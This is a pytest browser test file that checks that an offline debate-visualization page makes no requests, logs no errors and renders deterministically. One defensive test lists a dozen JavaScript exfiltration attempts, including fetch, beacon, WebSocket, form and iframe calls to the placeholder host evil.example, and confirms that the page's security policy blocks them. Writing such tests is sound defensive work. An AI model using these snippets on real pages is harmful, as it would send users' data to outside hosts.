"""The page needs nothing but itself: opened from a file with the network cut it asks for nothing, stores nothing, says nothing."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from graph.network import actor_target
from graph.opening import open_store
from tests.readings import Said, fill, reading
from visualizations.page import page as make_page

pytestmark = pytest.mark.browser
SETTLED = "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 60))))"
VIEWS = ("Network", "Matrix", "Timeline", "Table")


@pytest.fixture
def alone(browser, tmp_path):
    """Opens a page from a file, with the network cut, and notes all that it says and asks for."""
    contexts = []

    def open_page(html, *, name="page.html", **settings):
        file = tmp_path / name
        file.write_bytes(html.encode())
        context = browser.new_context(**{"offline": True, "viewport": {"width": 1400, "height": 900}} | settings)
        contexts.append(context)
        asked, said = [], []
        context.on("request", lambda request: asked.append(request.url))
        context.on("console", lambda message: said.append(f"{message.type}: {message.text}"))
        context.on("weberror", lambda error: said.append(str(error.error)))
        context.on("download", lambda download: said.append(f"download {download.url}"))
        tab = context.new_page()
        tab.goto(file.as_uri())
        return tab, file.as_uri(), asked, said

    yield open_page
    for context in contexts:
        context.close()


def looked_at(tab):
    """Every view, mode and panel once."""
    for view in VIEWS:
        tab.locator("#views button", has_text=view).click()
        tab.evaluate(SETTLED)
        for name in (tab.locator("#panel .name, #panel .pick, #other .name, #other .cell, #other .mark").all())[:3]:
            if name.is_visible():
                name.click()
                tab.evaluate(SETTLED)
                break
        tab.keyboard.press("Escape")
    tab.locator("#views button", has_text="Network").click()
    for mode in ("actors", "targets"):
        tab.locator(f"[data-mode={mode}]").click()
        tab.evaluate(SETTLED)
    for box in tab.locator("#filters fieldset > label input[type=checkbox]").all():
        box.click()
    tab.go_back()
    tab.reload()
    tab.wait_for_selector("html[data-ready=yes]")


@pytest.mark.parametrize(("name", "scheme"), [("page.html", "light"), ("Who stands where? 100% #1 é\u202e&.html", "dark")])
def test_it_asks_for_nothing_and_says_nothing_in_any_view(alone, debate_page, name, scheme):
    tab, address, asked, said = alone(debate_page, name=name, color_scheme=scheme)
    tab.wait_for_selector("html[data-ready=yes]")
    looked_at(tab)
    assert said == []
    assert set(asked) == {address}
    assert len(asked) == 2
    assert tab.evaluate("[document.cookie, Object.keys(sessionStorage).length]") == ["", 0]


def test_an_empty_page_asks_for_nothing_either(alone):
    tab, address, asked, said = alone(make_page(actor_target([], []), title="Nothing"))
    tab.wait_for_selector("html[data-ready=yes]")
    looked_at(tab)
    assert (said, set(asked)) == ([], {address})


def test_all_that_is_remembered_is_that_the_hint_was_read(alone, debate_page):
    tab, *_ = alone(debate_page)
    assert tab.evaluate("Object.keys(localStorage)") == []
    tab.locator("#hint button").click()
    looked_at(tab)
    assert tab.evaluate("({...localStorage})") == {"stancegraph-hint": "seen"}


def test_pyvis_own_page_of_the_same_debate_is_what_this_watches_for(alone):
    """The watch notices requests and errors: pyvis's page has both."""
    from pyvis.network import Network

    canvas = Network()
    canvas.add_node("OpenAI")
    tab, address, asked, said = alone(canvas.generate_html())
    tab.evaluate(SETTLED)
    assert len(set(asked) - {address}) >= 3
    assert [one for one in said if "vis is not defined" in one]


# What a script could do to send something away, had one got in. Where it is not told what came of it, the network is asked.
ATTEMPT = """() => new Promise((done) => {
  const ends = { onload: sent, onerror: refused };
  const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), ends, more));
  function sent() { done("sent"); }
  function refused() { done("refused"); }
  try { WAY } catch { refused(); }
})"""
WAYS_OUT = {
    "fetch": "fetch('https://evil.example/a').then(sent, refused);",
    "image": "add('img', { src: 'https://evil.example/b.png' });",
    "style": "add('link', { rel: 'stylesheet', href: 'https://evil.example/c' });",
    "socket": "new WebSocket('wss://evil.example/').onerror = refused;",
    "events": "new EventSource('https://evil.example/d').onerror = refused;",
    "worker": "new Worker('data:text/javascript,0').onerror = refused;",
    "import": "import('data:text/javascript,0').then(sent, refused);",
    "beacon": "navigator.sendBeacon('https://evil.example/e', 'x'); refused();",
    "frame": "add('iframe', { onload: refused, src: 'https://evil.example/f' });",
    "form": "add('form', { action: 'https://evil.example/g' }).submit(); refused();",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); sent();",
    "script": "add('script', { text: 'window.owned = 1' }); (window.owned ? sent : refused)();",
}


def test_even_a_script_that_got_in_could_send_nothing(alone, debate_page):
    """With the network up, the page's policy alone stands in the way."""
    tab, *_, said = alone(debate_page, offline=False)
    reached = []
    tab.context.route("**/*", lambda route: (reached.append(route.request.url), route.abort()))
    for way, script in WAYS_OUT.items():
        assert tab.evaluate(ATTEMPT.replace("WAY", script)) == "refused", way
    tab.wait_for_timeout(200)
    assert reached == []
    assert len([one for one in said if "Content Security Policy" in one or "Trusted" in one]) >= 8


NAMES = [("openai", "OpenAI"), ("meta", "Meta"), ("google", "Google"), ("anthropic", "Anthropic"), ("nvidia", "Nvidia")] * 3
DRAW = """
import sys
from pathlib import Path
from stancegraph.commands.draw import drawn
sys.stdout.buffer.write(drawn(Path(sys.argv[1]), title="A debate", focus="OpenAI", as_of="2026").encode())
"""


def test_the_same_store_gives_the_same_bytes(tmp_path):
    """Whatever the seed of Python's hashes, the zone, the language and the place."""
    said = [Said(f"ac:{slug} {name}", 0.5 - place % 2, f"the bill {place % 5}") for place, (slug, name) in enumerate(NAMES)]
    with open_store(tmp_path / "store") as store:
        fill(store, *(reading(*said[place : place + 5], published=f"202{place % 6}-05-21", title=f"Text {place}") for place in range(6)))
    pages = set()
    for seed, zone, language in (("1", "UTC", "C.UTF-8"), ("2", "Pacific/Auckland", "C"), ("3", "America/New_York", "POSIX")):
        environment = {
            **os.environ,
            "PYTHONHASHSEED": seed,
            "TZ": zone,
            "LC_ALL": language,
            "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
        }
        place = tmp_path / seed
        place.mkdir()
        made = subprocess.run(
            [sys.executable, "-c", DRAW, str(tmp_path / "store")], env=environment, cwd=place, capture_output=True, check=True
        )
        assert b"OpenAI" in made.stdout
        pages.add(made.stdout)
    assert len(pages) == 1
